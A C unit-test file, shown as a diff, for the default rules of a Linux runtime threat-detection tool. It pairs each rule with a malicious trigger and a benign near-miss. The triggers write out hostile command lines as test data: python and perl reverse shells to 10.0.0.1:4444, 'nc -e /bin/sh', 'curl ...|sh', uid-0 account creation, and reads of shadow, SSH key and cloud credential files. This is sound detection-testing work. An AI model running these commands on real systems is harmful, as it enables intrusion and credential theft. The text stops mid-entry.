@@ -1,0 +1,872 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * The default rules (embedded): they all load, every one of them has at least
+ * one trigger and one near-miss below, every trigger matches in user space AND
+ * is a candidate of the compiled kernel tables (the kernel never drops what
+ * user space would report), and every near-miss — the closest legitimate
+ * behaviour — does not match. Plus the tables the rules rely on (syscall
+ * numbers, MITRE ids).
+ */
+#include <stdarg.h>
+#include <stddef.h>
+#include <setjmp.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <signal.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+#include <cmocka.h>
+
+#include "rules_test_util.h"
+
+enum special {
+	SP_NONE,
+	SP_INET,  /* the process has a TCP socket on stdin/stdout */
+	SP_UNIX,  /* ... a unix socket (journald's stream) */
+	SP_OTHER, /* the operation names pid 1: not ours */
+	SP_CHILD, /* ... names a child of the test process */
+};
+
+struct row {
+	const char *rule;
+	bool want;
+	struct t_op op;
+	enum special sp;
+	const char *why; /* the behaviour, for failure messages */
+};
+
+#define EXEC(e, a) .kind = VG_RK_EXEC, .self = { .exe = e, .argv = a }
+#define FOP(e, p, act) .kind = VG_RK_FILE, .self = { .exe = e }, .path = p, .actions = act
+#define SYS(e, n) .kind = VG_RK_SYSCALL, .self = { .exe = e }, .nr = n
+/* with the process's command line */
+#define FOPA(e, a, p, act) .kind = VG_RK_FILE, .self = { .exe = e, .argv = a }, .path = p, .actions = act
+#define SYSA(e, a, n) .kind = VG_RK_SYSCALL, .self = { .exe = e, .argv = a }, .nr = n
+#define PARENT(e, a) .parent = { .exe = e, .argv = a }
+#define GRAND(e, a) .grand = { .exe = e, .argv = a }
+#define W VG_FA_WRITE
+#define R VG_FA_READ
+
+static const struct row rows[] = {
+	/* ---------------- execution ---------------- */
+	{ "shell-from-interpreter", true,
+	  { EXEC("/usr/bin/dash", "/bin/sh"),
+	    PARENT("/usr/bin/python3.11", "python3\t-c\timport pty;pty.spawn('/bin/sh')") },
+	  .why = "pty.spawn of a shell from python" },
+	{ "shell-from-interpreter", true,
+	  { EXEC("/usr/bin/bash", "bash\t-i"), PARENT("/usr/bin/perl", "perl\t/var/www/cgi/x.pl") },
+	  .why = "interactive bash from perl" },
+	{ "shell-from-interpreter", false,
+	  { EXEC("/usr/bin/dash", "/bin/sh\t-c\tgcc -o x x.c"),
+	    PARENT("/usr/bin/python3.11", "python3\tsetup.py\tbuild") },
+	  .why = "subprocess(shell=True) in a build tool" },
+	{ "shell-from-interpreter", false,
+	  { EXEC("/usr/bin/dash", "/bin/sh\t-c\tnpm run build"), PARENT("/usr/bin/node", "node\t/usr/bin/npm\trun") },
+	  .why = "npm running a package script" },
+	{ "shell-from-interpreter", false,
+	  { EXEC("/usr/bin/bash", "bash"), PARENT("/usr/bin/make", "make\t-j2") },
+	  .why = "a shell from make" },
+
+	{ "shell-from-server", true,
+	  { EXEC("/usr/bin/dash", "sh\t-c\tid;uname -a"), PARENT("/usr/sbin/nginx", "nginx: worker process") },
+	  .why = "web shell via nginx" },
+	{ "shell-from-server", true,
+	  { EXEC("/usr/bin/dash", "sh\t-c\tcurl http://x/s|sh"), PARENT("/usr/lib/postgresql/15/bin/postgres", "postgres") },
+	  .why = "COPY FROM PROGRAM" },
+	{ "shell-from-server", false,
+	  { EXEC("/usr/bin/dash", "sh\t-c\t/usr/sbin/sendmail -t -i"), PARENT("/usr/sbin/php-fpm8.2", "php-fpm: pool www") },
+	  .why = "PHP mail()" },
+	{ "shell-from-server", false,
+	  { EXEC("/usr/bin/dash", "sh\t-c\tpgbackrest --stanza=main archive-push pg_wal/0001"),
+	    PARENT("/usr/lib/postgresql/15/bin/postgres", "postgres") },
+	  .why = "WAL archiving" },
+
+	{ "reverse-shell", true,
+	  { EXEC("/usr/bin/bash", "bash\t-i"), PARENT("/usr/bin/bash", "bash"), .conds = 1 << VG_XC_STDIO_SOCK },
+	  SP_INET, "bash -i >& /dev/tcp/..." },
+	{ "reverse-shell", false,
+	  { EXEC("/usr/bin/dash", "/bin/sh\t/usr/lib/x/job.sh"), PARENT("/usr/bin/bash", "bash"),
+	    .conds = 1 << VG_XC_STDIO_SOCK },
+	  SP_UNIX, "a service script whose stdout is journald's unix socket" },
+	{ "reverse-shell", false,
+	  { EXEC("/usr/bin/bash", "bash"), PARENT("/usr/sbin/xinetd", "xinetd"), .conds = 1 << VG_XC_STDIO_SOCK },
+	  SP_INET, "an inetd service" },
+
+	{ "netcat-exec", true,
+	  { EXEC("/usr/bin/nc.traditional", "nc\t-e\t/bin/sh\t10.0.0.1\t4444") }, .why = "nc -e" },
+	{ "netcat-exec", true,
+	  { EXEC("/usr/bin/socat", "socat\ttcp:10.0.0.1:4444\texec:/bin/bash,pty,stderr") }, .why = "socat exec" },
+	{ "netcat-exec", false,
+	  { EXEC("/usr/bin/nc.openbsd", "nc\t-zv\t10.0.0.1\t22") }, .why = "port check" },
+	{ "netcat-exec", false,
+	  { EXEC("/usr/bin/busybox", "sed\t-e\ts/a/b/\tf") }, .why = "busybox sed -e" },
+
+	{ "python-inline-shell-or-socket", true,
+	  { EXEC("/usr/bin/python3.11",
+		 "python3\t-c\timport socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));"
+		 "os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")") },
+	  .why = "python reverse shell" },
+	{ "python-inline-shell-or-socket", false,
+	  { EXEC("/usr/bin/python3.11",
+		 "/usr/bin/python3\t-W\tignore::DeprecationWarning\t-c\timport runpy\nimport sys\n"
+		 "sys.path = ['/tmp/x/pip.whl'] + sys.path\nsys.argv[1:] = ['install']\n"
+		 "runpy.run_module(\"pip\", run_name=\"__main__\", alter_sys=True)") },
+	  .why = "ensurepip's pip bootstrap (python -m venv)" },
+	{ "python-inline-shell-or-socket", false,
+	  { EXEC("/usr/bin/python3.11", "python3\t-c\timport sysconfig; print(sysconfig.get_paths())") },
+	  .why = "build metadata one-liner" },
+
+	{ "script-inline-shell-or-socket", true,
+	  { EXEC("/usr/bin/perl", "perl\t-e\tuse Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
+				  "connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")));exec(\"/bin/sh -i\");") },
+	  .why = "perl reverse shell" },
+	{ "script-inline-shell-or-socket", true,
+	  { EXEC("/usr/bin/node", "node\t-e\trequire('child_process').exec('nc -e /bin/sh 10.0.0.1 1')") },
+	  .why = "node child_process one-liner" },
+	{ "script-inline-shell-or-socket", false,
+	  { EXEC("/usr/bin/perl", "perl\t-ne\tprint if /^Version/\tdebian/control") }, .why = "perl text filter" },
+
+	{ "exec-from-temp-dir", true,
+	  { EXEC("/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi"), PARENT("/usr/bin/dash", "sh\t-c\tcurl x|sh") },
+	  .why = "payload in /tmp" },
+	{ "exec-from-temp-dir", true,
+	  { EXEC("/dev/shm/.x/y", "y"), PARENT("/usr/bin/bash", "bash") }, .why = "payload in /dev/shm" },
+	{ "exec-from-temp-dir", false,
+	  { EXEC("/tmp/pytest-of-root/pytest-3/test_ci0/proj/test_prog", "./test_prog"),
+	    PARENT("/usr/bin/make", "make\ttest") },
+	  .why = "a test binary in a build tree under /tmp" },
+
+	{ "exec-from-hidden-dir", true,
+	  { EXEC("/var/tmp/.X1-unix/miner", "miner") }, .why = "binary in a dot directory" },
+	{ "exec-from-hidden-dir", true,
+	  { EXEC("/root/.config/.d/agent", "agent") }, .why = "dot dir under a home" },
+	{ "exec-from-hidden-dir", false,
+	  { EXEC("/home/dev/.cargo/bin/rustc", "rustc") }, .why = "rustup toolchain" },
+	{ "exec-from-hidden-dir", false,
+	  { EXEC("/root/.local/bin/ruff", "ruff\tcheck") }, .why = "pip --user tool" },
+
+	{ "fileless-exec", true,
+	  { EXEC("/memfd:x (deleted)", "x"), .conds = 1 << VG_XC_MEMFD }, .why = "exec of a memfd" },
+	{ "fileless-exec", false,
+	  { EXEC("/memfd:runc_cloned:/proc/self/exe (deleted)", "runc\tinit"), .conds = 1 << VG_XC_MEMFD },
+	  .why = "runc's cloned binary" },
+
+	{ "exec-via-dynamic-loader", true,
+	  { EXEC("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
+		 "/lib64/ld-linux-x86-64.so.2\t/mnt/noexec/payload"),
+	    PARENT("/usr/bin/bash", "bash") },
+	  .why = "running a binary from a noexec mount" },
+	{ "exec-via-dynamic-loader", false,
+	  { EXEC("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2\t/bin/ls"),
+	    PARENT("/usr/bin/bash", "/bin/bash\t/usr/bin/ldd\t/bin/ls") },
+	  .why = "ldd" },
+	{ "exec-via-dynamic-loader", false,
+	  { EXEC("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
+		 "/lib64/ld-linux-x86-64.so.2\t--verify\t/bin/ls") },
+	  .why = "ldd's --verify" },
+
+	/* ---------------- persistence ---------------- */
+	{ "cron-job-modified", true,
+	  { FOP("/usr/bin/bash", "/etc/cron.d/backdoor", VG_FA_WRITE | VG_FA_CREATE) }, .why = "echo > /etc/cron.d/x" },
+	{ "cron-job-modified", true,
+	  { FOP("/usr/bin/crontab", "/var/spool/cron/crontabs/root", VG_FA_RENAME_TO) }, .why = "crontab -" },
+	{ "cron-job-modified", false,
+	  { FOP("/usr/sbin/cron", "/etc/crontab", R) }, .why = "cron reading its tables" },
+	{ "cron-job-modified", false,
+	  { FOP("/usr/bin/dpkg", "/etc/cron.d/sysstat", VG_FA_CREATE) }, .why = "dpkg installing a cron file" },
+	{ "cron-job-modified", false,
+	  { FOP("/usr/bin/dash", "/etc/cron.daily/x", W), PARENT("/usr/bin/dash", "/var/lib/dpkg/info/x.postinst"),
+	    GRAND("/usr/bin/dpkg", "dpkg\t-i\tx.deb") },
+	  .why = "a maintainer script" },
+
+	{ "at-job-created", true,
+	  { FOP("/usr/bin/at", "/var/spool/cron/atjobs/a0001", VG_FA_CREATE) }, .why = "at now + 1 min" },
+	{ "at-job-created", false,
+	  { FOP("/usr/sbin/atd", "/var/spool/cron/atjobs/a0001", R) }, .why = "atd running the job" },
+
+	{ "systemd-unit-modified", true,
+	  { FOP("/usr/bin/cp", "/etc/systemd/system/evil.service", VG_FA_CREATE) }, .why = "new unit" },
+	{ "systemd-unit-modified", true,
+	  { FOP("/usr/bin/tee", "/home/u/.config/systemd/user/agent.service", W) }, .why = "user unit" },
+	{ "systemd-unit-modified", false,
+	  { FOP("/usr/bin/systemctl", "/etc/systemd/system/multi-user.target.wants/ssh.service", VG_FA_SYMLINK) },
+	  .why = "systemctl enable" },
+	{ "systemd-unit-modified", false,
+	  { FOP("/usr/bin/dpkg", "/usr/lib/systemd/system/nginx.service.dpkg-new", VG_FA_CREATE) },
+	  .why = "a package's unit" },
+
+	{ "shell-profile-modified", true,
+	  { FOP("/usr/bin/bash", "/root/.bashrc", W) }, .why = "echo >> ~/.bashrc" },
+	{ "shell-profile-modified", true,
+	  { FOP("/usr/bin/cp", "/etc/profile.d/zz.sh", VG_FA_CREATE) }, .why = "profile.d drop-in" },
+	{ "shell-profile-modified", false,
+	  { FOP("/usr/sbin/useradd", "/home/new/.bashrc", VG_FA_CREATE) }, .why = "useradd -m copying skel" },
+	{ "shell-profile-modified", false,
+	  { FOPA("/usr/bin/perl", "/usr/bin/perl\t-T\t/usr/sbin/adduser\tbob", "/home/bob/.profile", VG_FA_CREATE) },
+	  .why = "adduser copying skel" },
+	{ "shell-profile-modified", false,
+	  { FOP("/usr/bin/bash", "/root/.bashrc", R) }, .why = "a shell reading its rc" },
+
+	{ "ssh-authorized-keys-modified", true,
+	  { FOP("/usr/bin/bash", "/root/.ssh/authorized_keys", W) }, .why = "echo key >> authorized_keys" },
+	{ "ssh-authorized-keys-modified", false,
+	  { FOP("/usr/sbin/sshd", "/home/u/.ssh/authorized_keys", R) }, .why = "sshd checking a key" },
+	{ "ssh-authorized-keys-modified", false,
+	  { FOPA("/usr/bin/python3.11", "/usr/bin/python3\t/usr/bin/cloud-init\tmodules", "/home/debian/.ssh/authorized_keys", W) },
+	  .why = "cloud-init installing the instance key" },
+
+	{ "account-created", true,
+	  { EXEC("/usr/sbin/useradd", "useradd\t-m\tbackdoor"), PARENT("/usr/bin/bash", "bash") },
+	  .why = "useradd by hand" },
+	{ "account-created", false,
+	  { EXEC("/usr/sbin/useradd", "useradd\t--system\t_svc"), PARENT("/usr/bin/dash", "/var/lib/dpkg/info/x.postinst"),
+	    GRAND("/usr/bin/dpkg", "dpkg\t-i\tx.deb") },
+	  .why = "a package creating its system user" },
+
+	{ "account-privileges-granted", true,
+	  { EXEC("/usr/sbin/usermod", "usermod\t-aG\tsudo\tmallory") }, .why = "usermod -aG sudo" },
+	{ "account-privileges-granted", true,
+	  { EXEC("/usr/sbin/useradd", "useradd\t-o\t-u\t0\ttoor") }, .why = "uid 0 account" },
+	{ "account-privileges-granted", false,
+	  { EXEC("/usr/sbin/usermod", "usermod\t-s\t/bin/zsh\tbob") }, .why = "changing a shell" },
+
+	{ "account-files-modified", true,
+	  { FOP("/usr/bin/bash", "/etc/passwd", W) }, .why = "echo >> /etc/passwd" },
+	{ "account-files-modified", true,
+	  { FOP("/usr/bin/sed", "/etc/shadow", VG_FA_RENAME_TO) }, .why = "sed -i /etc/shadow" },
+	{ "account-files-modified", false,
+	  { FOP("/usr/sbin/useradd", "/etc/passwd", W) }, .why = "useradd" },
+	{ "account-files-modified", false,
+	  { FOP("/usr/bin/passwd", "/etc/shadow", VG_FA_RENAME_TO) }, .why = "passwd" },
+
+	{ "ld-so-preload-modified", true,
+	  { FOP("/usr/bin/bash", "/etc/ld.so.preload", VG_FA_WRITE | VG_FA_CREATE) }, .why = "rootkit hook" },
+	{ "ld-so-preload-modified", false,
+	  { FOP("/usr/bin/ls", "/etc/ld.so.preload", R) }, .why = "the loader reading it" },
+
+	{ "ld-so-conf-modified", true,
+	  { FOP("/usr/bin/tee", "/etc/ld.so.conf.d/evil.conf", VG_FA_CREATE) }, .why = "search path hijack" },
+	{ "ld-so-conf-modified", false,
+	  { FOP("/usr/bin/dpkg", "/etc/ld.so.conf.d/x86_64-linux-gnu.conf.dpkg-new", VG_FA_CREATE) },
+	  .why = "libc package" },
+
+	{ "rc-script-modified", true,
+	  { FOP("/usr/bin/bash", "/etc/rc.local", W) }, .why = "rc.local" },
+	{ "rc-script-modified", false,
+	  { FOPA("/usr/bin/perl", "/usr/bin/perl\t/usr/sbin/update-rc.d\tnginx\tdefaults", "/etc/rc2.d/S01nginx", VG_FA_SYMLINK) },
+	  .why = "update-rc.d" },
+
+	{ "package-manager-hook-modified", true,
+	  { FOP("/usr/bin/bash", "/etc/apt/apt.conf.d/99evil", VG_FA_CREATE) }, .why = "APT hook" },
+	{ "package-manager-hook-modified", false,
+	  { FOP("/usr/bin/dash", "/etc/apt/apt.conf.d/01autoremove", W),
+	    PARENT("/usr/bin/dpkg", "dpkg\t--configure\t-a") },
+	  .why = "a package's own apt.conf.d file" },
+
+	/* ---------------- privilege escalation ---------------- */
+	{ "sudoers-modified", true,
+	  { FOP("/usr/bin/bash", "/etc/sudoers.d/90-x", VG_FA_CREATE) }, .why = "NOPASSWD drop-in" },
+	{ "sudoers-modified", false,
+	  { FOP("/usr/sbin/visudo", "/etc/sudoers", VG_FA_RENAME_TO) }, .why = "visudo" },
+	{ "sudoers-modified", false,
+	  { FOP("/usr/bin/sudo", "/etc/sudoers", R) }, .why = "sudo reading it" },
+
+	{ "setuid-bit-set", true,
+	  { FOP("/usr/bin/chmod", "/nonexistent-vigil-test/.b", VG_FA_SETID | VG_FA_CHMOD), .mode = 04755 },
+	  .why = "chmod u+s on a copied shell" },
+	{ "setuid-bit-set", false,
+	  { FOP("/usr/bin/chmod", "/tmp", VG_FA_SETID | VG_FA_CHMOD), .mode = 02775 },
+	  .why = "setgid on a shared directory" },
+	{ "setuid-bit-set", false,
+	  { FOP("/usr/bin/dpkg", "/usr/bin/sudo.dpkg-new", VG_FA_SETID | VG_FA_CHMOD), .mode = 04755 },
+	  .why = "dpkg installing sudo" },
+
+	{ "file-capabilities-set", true,
+	  { FOP("/usr/sbin/setcap", "/usr/bin/python3.11", VG_FA_XATTR_CAPS), PARENT("/usr/bin/bash", "bash") },
+	  .why = "cap_setuid on python" },
+	{ "file-capabilities-set", false,
+	  { FOP("/usr/sbin/setcap", "/usr/bin/ping", VG_FA_XATTR_CAPS),
+	    PARENT("/usr/bin/dash", "/var/lib/dpkg/info/iputils-ping.postinst"), GRAND("/usr/bin/dpkg", "dpkg") },
+	  .why = "ping's postinst" },
+
+	{ "gained-root-unexpected", true,
+	  { EXEC("/tmp/.x/rootsh", "rootsh"), .conds = 1 << VG_XC_GAINED_ROOT }, .why = "planted setuid shell" },
+	{ "gained-root-unexpected", false,
+	  { EXEC("/usr/bin/sudo", "sudo\tapt\tupdate"), .conds = 1 << VG_XC_GAINED_ROOT }, .why = "sudo" },
+	{ "gained-root-unexpected", false,
+	  { EXEC("/usr/bin/passwd", "passwd"), .conds = 1 << VG_XC_GAINED_ROOT }, .why = "passwd" },
+
+	{ "cgroup-release-agent-write", true,
+	  { FOP("/usr/bin/dash", "/tmp/cgrp/release_agent", W) }, .why = "container escape PoC" },
+	{ "cgroup-release-agent-write", false,
+	  { FOP("/usr/lib/systemd/systemd", "/sys/fs/cgroup/systemd/release_agent", W) }, .why = "systemd on cgroup v1" },
+
+	{ "core-pattern-write", true,
+	  { FOP("/usr/bin/dash", "/proc/sys/kernel/core_pattern", VG_FA_WRITE | VG_FA_TRUNC) }, .why = "|/tmp/x" },
+	{ "core-pattern-write", false,
+	  { FOP("/usr/lib/systemd/systemd-sysctl", "/proc/sys/kernel/core_pattern", W) }, .why = "boot sysctl" },
+	{ "core-pattern-write", false,
+	  { FOP("/usr/sbin/sysctl", "/proc/sys/kernel/core_pattern", W), PARENT("/usr/lib/systemd/systemd", "/sbin/init") },
+	  .why = "procps.service sysctl --system" },
+
+	/* ---------------- defense evasion ---------------- */
+	{ "binary-self-deleted", true,
+	  { FOP("/tmp/.d/x", "/tmp/.d/x", VG_FA_UNLINK) }, .why = "payload deleting itself" },
+	{ "binary-self-deleted", false,
+	  { FOP("/usr/bin/x86_64-linux-gnu-gcc-12", "/tmp/ccAbc123.s", VG_FA_UNLINK) }, .why = "gcc's temp files" },
+
+	{ "log-files-tampered", true,
+	  { FOP("/usr/bin/bash", "/var/log/wtmp", VG_FA_WRITE | VG_FA_TRUNC) }, .why = "> /var/log/wtmp" },
+	{ "log-files-tampered", true,
+	  { FOP("/usr/bin/rm", "/var/log/auth.log", VG_FA_UNLINK) }, .why = "rm auth.log" },
+	{ "log-files-tampered", false,
+	  { FOP("/usr/sbin/logrotate", "/var/log/syslog", VG_FA_RENAME_FROM) }, .why = "logrotate" },
+	{ "log-files-tampered", false,
+	  { FOP("/usr/lib/systemd/systemd-journald", "/var/log/journal/abc/system@1-2-3.journal", VG_FA_UNLINK) },
+	  .why = "journald vacuum" },
+	{ "log-files-tampered", false,
+	  { FOP("/usr/sbin/sshd", "/var/log/wtmp", W) }, .why = "sshd recording a login" },
+
+	{ "shell-history-deleted", true,
+	  { FOP("/usr/bin/ln", "/root/.bash_history", VG_FA_SYMLINK) }, .why = "ln -sf /dev/null ~/.bash_history" },
+	{ "shell-history-deleted", false,
+	  { FOP("/usr/bin/bash", "/root/.bash_history", W) }, .why = "bash saving history" },
+
+	{ "shell-history-truncated", true,
+	  { FOP("/usr/bin/truncate", "/home/u/.bash_history", VG_FA_TRUNC) }, .why = "truncate -s0" },
+	{ "shell-history-truncated", false,
+	  { FOP("/usr/bin/bash", "/home/u/.bash_history", VG_FA_WRITE | VG_FA_TRUNC) }, .why = "bash rewriting it" },
+
+	{ "kernel-module-loaded", true,
+	  { SYSA("/usr/bin/kmod", "insmod\t/tmp/rk.ko", 313),
+	    PARENT("/usr/bin/bash", "bash") },
+	  .why = "insmod a rootkit" },
+	{ "kernel-module-loaded", false,
+	  { SYSA("/usr/bin/kmod", "/sbin/modprobe\t-q\t--\tbinfmt-464c", 313),
+	    .parent = { .exe = "", .flags = VG_PF_KTHREAD } },
+	  .why = "the kernel's request_module" },
+
+	{ "bpf-program-loaded", true,
+	  { SYS("/tmp/x", 321), .args = { 5 } }, .why = "BPF_PROG_LOAD by an unknown binary" },
+	{ "bpf-program-loaded", false,
+	  { SYS("/usr/lib/systemd/systemd", 321), .args = { 5 } }, .why = "systemd's cgroup programs" },
+	{ "bpf-program-loaded", false,
+	  { SYS("/tmp/x", 321), .args = { 1 } }, .why = "a map lookup" },
+
+	{ "security-sysctl-changed", true,
+	  { FOP("/usr/bin/dash", "/proc/sys/kernel/randomize_va_space", VG_FA_WRITE | VG_FA_TRUNC) },
+	  .why = "echo 0 > randomize_va_space" },
+	{ "security-sysctl-changed", false,
+	  { FOP("/usr/lib/systemd/systemd-sysctl", "/proc/sys/kernel/kptr_restrict", W) }, .why = "boot sysctl" },
+	{ "security-sysctl-changed", false,
+	  { FOP("/usr/bin/cat", "/proc/sys/kernel/randomize_va_space", R) }, .why = "reading it" },
+
+	{ "ld-preload-writable-dir", true,
+	  { FOP("/usr/bin/ls", "/tmp/hook.so", VG_FA_MMAP_EXEC), .env = "PATH=/bin\tLD_PRELOAD=/tmp/hook.so" },
+	  .why = "LD_PRELOAD=/tmp/hook.so" },
+	{ "ld-preload-writable-dir", false,
+	  { FOP("/usr/bin/python3.11", "/tmp/venv/lib/python3.11/site-packages/_speedups.so", VG_FA_MMAP_EXEC),
+	    .env = "PATH=/tmp/venv/bin" },
+	  .why = "a venv's extension module" },
+
+	{ "timestomp-system-file", true,
+	  { FOP("/usr/bin/touch", "/usr/bin/sshd", VG_FA_UTIMES) }, .why = "touch -r" },
+	{ "timestomp-system-file", false,
+	  { FOP("/usr/bin/dpkg", "/usr/bin/sshd.dpkg-new", VG_FA_UTIMES) }, .why = "dpkg" },
+	{ "timestomp-system-file", false,
+	  { FOP("/usr/bin/python3.11", "/usr/lib/python3.11/__pycache__/os.cpython-311.pyc", VG_FA_UTIMES) },
+	  .why = "python byte-compiling" },
+
+	{ "ptrace-code-injection", true,
+	  { SYS("/usr/bin/gdb", 101), .args = { 4 } }, SP_OTHER, "POKETEXT into another process" },
+	{ "ptrace-code-injection", false,
+	  { SYS("/usr/bin/gdb", 101), .args = { 4 } }, SP_CHILD, "gdb setting a breakpoint in its program" },
+	{ "ptrace-code-injection", false,
+	  { SYS("/usr/bin/gdb", 101), .args = { 2 } }, SP_OTHER, "PEEKDATA" },
+
+	{ "proc-mem-write", true,
+	  { FOP("/usr/bin/python3.11", "/proc/%d/mem", W) }, SP_OTHER, "writing another's memory" },
+	{ "proc-mem-write", false,
+	  { FOP("/usr/bin/gdb", "/proc/%d/mem", W) }, SP_CHILD, "gdb writing its inferior" },
+
+	{ "process-vm-writev", true,
+	  { SYS("/tmp/inject", 311) }, SP_OTHER, "process_vm_writev into another" },
+	{ "process-vm-writev", false,
+	  { SYS("/usr/sbin/criu", 311) }, SP_OTHER, "criu restore" },
+
+	{ "system-binary-replaced", true,
+	  { FOP("/usr/bin/cp", "/usr/bin/ls", VG_FA_WRITE | VG_FA_TRUNC) }, .why = "trojaned ls" },
+	{ "system-binary-replaced", true,
+	  { FOP("/usr/bin/mv", "/usr/lib/x86_64-linux-gnu/libpam.so.0", VG_FA_RENAME_TO) }, .why = "planted library" },
+	{ "system-binary-replaced", false,
+	  { FOP("/usr/bin/dpkg", "/usr/bin/ls", VG_FA_RENAME_TO) }, .why = "dpkg upgrading coreutils" },
+	{ "system-binary-replaced", false,
+	  { FOP("/usr/sbin/ldconfig", "/usr/lib/x86_64-linux-gnu/libfoo.so.1", VG_FA_SYMLINK) }, .why = "ldconfig" },
+	{ "system-binary-replaced", false,
+	  { FOP("/usr/bin/python3.11", "/usr/lib/python3.11/__pycache__/os.cpython-311.pyc", VG_FA_CREATE) },
+	  .why = "python writing a .pyc" },
+	{ "system-binary-replaced", false,
+	  { FOP("/usr/bin/install", "/usr/local/bin/tool", VG_FA_CREATE) }, .why = "make install to /usr/local" },
+
+	/* ---------------- credential access ---------------- */
+	{ "shadow-file-read", true,
+	  { FOP("/usr/bin/cat", "/etc/shadow", R) }, .why = "cat /etc/shadow" },
+	{ "shadow-file-read", false,
+	  { FOP("/usr/sbin/unix_chkpwd", "/etc/shadow", R) }, .why = "PAM's helper" },
+	{ "shadow-file-read", false,
+	  { FOP("/usr/lib/openssh/sshd-session", "/etc/shadow", R) }, .why = "sshd" },
+
+	{ "ssh-private-key-read", true,
+	  { FOP("/usr/bin/cat", "/root/.ssh/id_rsa", R) }, .why = "cat id_rsa" },
+	{ "ssh-private-key-read", true,
+	  { FOP("/usr/bin/python3.11", "/etc/ssh/ssh_host_ed25519_key", R) }, .why = "host key" },
+	{ "ssh-private-key-read", false,
+	  { FOP("/usr/bin/ssh", "/root/.ssh/id_ed25519", R) }, .why = "ssh using its key" },
+	{ "ssh-private-key-read", false,
+	  { FOP("/usr/bin/cat", "/root/.ssh/id_rsa.pub", R) }, .why = "the public key" },
+	{ "ssh-private-key-read", false,
+	  { FOP("/usr/sbin/sshd", "/etc/ssh/ssh_host_ed25519_key", R) }, .why = "sshd" },
+
+	{ "cloud-credentials-read", true,
+	  { FOPA("/usr/bin/node", "node\tindex.js", "/root/.aws/credentials", R),
+	    PARENT("/usr/bin/dash", "sh\t-c\tnode index.js"), GRAND("/usr/bin/node", "node\t/usr/bin/npm\tinstall") },
+	  .why = "an npm postinstall script" },
+	{ "cloud-credentials-read", true,
+	  { FOP("/usr/bin/python3.11", "/home/ci/.docker/config.json", R) }, .why = "a script reading registry auth" },
+	{ "cloud-credentials-read", true,
+	  { FOP("/usr/bin/cat", "/home/ci/.kube/config", R) }, .why = "cat kubeconfig" },
+	{ "cloud-credentials-read", false,
+	  { FOP("/usr/local/bin/aws", "/root/.aws/credentials", R) }, .why = "aws cli" },
+	{ "cloud-credentials-read", false,
+	  { FOPA("/usr/bin/node", "node\t/usr/bin/npm\tci", "/root/.npmrc", R) },
+	  .why = "npm reading .npmrc" },
+	{ "cloud-credentials-read", false,
+	  { FOPA("/usr/bin/python3.11", "/tmp/venv/bin/python3\t-m\tpip\tinstall\tx", "/root/.netrc", R) },
+	  .why = "pip (requests) reading .netrc" },
+	{ "cloud-credentials-read", false,
+	  { FOP("/usr/bin/git", "/home/u/project/.git/config", R) }, .why = "git reading .git/config" },
+
+	{ "proc-environ-read", true,
+	  { FOP("/usr/bin/python3.11", "/proc/%d/environ", R) }, SP_OTHER, "another process's environment" },
+	{ "proc-environ-read", false,
+	  { FOP("/usr/bin/python3.11", "/proc/%d/environ", R) }, SP_CHILD, "a child's environment" },
+
+	{ "proc-mem-read", true,
+	  { FOP("/usr/bin/python3.11", "/proc/%d/mem", R) }, SP_OTHER, "dumping the runner's memory" },
+	{ "proc-mem-read", false,
+	  { FOP("/usr/bin/gdb", "/proc/%d/mem", R) }, SP_CHILD, "gdb reading its inferior" },
+
+	{ "process-vm-readv", true,
+	  { SYS("/tmp/x", 310) }, SP_OTHER, "process_vm_readv from another" },
+	{ "process-vm-readv", false,
+	  { SYS("/usr/local/bin/py-spy", 310) }, SP_OTHER, "py-spy sampling" },
+	{ "process-vm-readv", false,
+	  { SYS("/tmp/x", 310) }, SP_CHILD, "reading a child" },
+
+	{ "ptrace-attach", true,
+	  { SYS("/usr/bin/gdb", 101), .args = { 16 } }, SP_OTHER, "gdb -p" },
+	{ "ptrace-attach", false,
+	  { SYS("/usr/bin/strace", 101), .args = { 0x4206 } }, SP_CHILD, "strace of its own command" },
+	{ "ptrace-attach", false,
+	  { SYS("/usr/bin/ls", 101), .args = { 0 } }, SP_OTHER, "PTRACE_TRACEME" },
+
+	{ "pam-config-modified", true,
+	  { FOP("/usr/bin/bash", "/etc/pam.d/sshd", W) }, .why = "PAM backdoor line" },
+	{ "pam-config-modified", true,
+	  { FOP("/usr/bin/cp", "/usr/lib/x86_64-linux-gnu/security/pam_evil.so", VG_FA_CREATE) }, .why = "PAM module" },
+	{ "pam-config-modified", false,
+	  { FOPA("/usr/bin/perl", "/usr/bin/perl\t-w\t/usr/sbin/pam-auth-update\t--package", "/etc/pam.d/common-auth", VG_FA_RENAME_TO) },
+	  .why = "pam-auth-update" },
+
+	{ "password-search", true,
+	  { EXEC("/usr/bin/grep", "grep\t-rn\tpassword\t/etc\t/home") }, .why = "grep -r password /etc" },
+	{ "password-search", false,
+	  { EXEC("/usr/bin/grep", "grep\t-rn\tpassword\tsrc/") }, .why = "a developer searching their code" },
+	{ "password-search", false,
+	  { EXEC("/usr/bin/grep", "grep\tpassword\t/etc/login.defs") }, .why = "not recursive" },
+
+	{ "credential-file-search", true,
+	  { EXEC("/usr/bin/find", "find\t/\t-name\tid_rsa") }, .why = "find / -name id_rsa" },
+	{ "credential-file-search", false,
+	  { EXEC("/usr/bin/find", "find\t.\t-name\t*.pem\t-delete") }, .why = "cleaning test certificates" },
+
+	/* ---------------- discovery ---------------- */
+	{ "network-scanner", true,
+	  { EXEC("/usr/bin/nmap", "nmap\t-sS\t10.0.0.0/24") }, .why = "nmap" },
+	{ "network-scanner", false,
+	  { EXEC("/usr/bin/nmcli", "nmcli\tdevice") }, .why = "NetworkManager's CLI" },
+
+	{ "network-sniffer", true,
+	  { EXEC("/usr/bin/tcpdump", "tcpdump\t-i\tany\t-w\t/tmp/c.pcap") }, .why = "tcpdump" },
+	{ "network-sniffer", false,
